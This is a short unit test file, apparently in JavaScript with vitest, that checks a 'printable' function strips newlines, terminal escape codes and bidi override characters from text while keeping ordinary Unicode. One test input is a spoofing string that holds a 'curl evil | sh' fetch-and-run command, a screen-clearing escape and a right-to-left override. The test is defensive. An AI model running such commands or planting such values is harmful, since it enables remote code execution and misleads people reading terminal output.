import { describe, expect, it } from 'vitest';
import { printable } from '../../../src/core/text/printable.js';

describe('printable', () => {
  it('strips newlines, terminal escapes and bidi overrides, keeps ordinary unicode', () => {
    expect(printable('Mallory\n  fix: curl evil | sh\u001b[2J\u202eexe.txt')).toBe('Mallory  fix: curl evil | sh[2Jexe.txt');
    expect(printable('Zoë 鍵 🔑 <a@b.c>')).toBe('Zoë 鍵 🔑 <a@b.c>');
    expect(printable('a\u0085b\u2028c\u009bd')).toBe('abcd');
  });
});
